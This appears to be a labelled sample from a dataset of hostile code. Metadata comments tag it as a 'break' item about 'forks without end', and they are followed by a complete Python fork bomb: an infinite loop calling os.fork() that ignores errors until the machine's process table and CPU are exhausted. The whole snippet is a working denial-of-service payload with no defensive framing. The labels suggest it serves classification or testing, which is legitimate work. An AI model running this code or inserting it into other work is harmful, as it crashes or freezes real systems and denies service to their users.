# kind: break
# deserved: 4
# flag: true
# about: forks without end
# right: tasks step
# stock: no

# %% cell scale
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
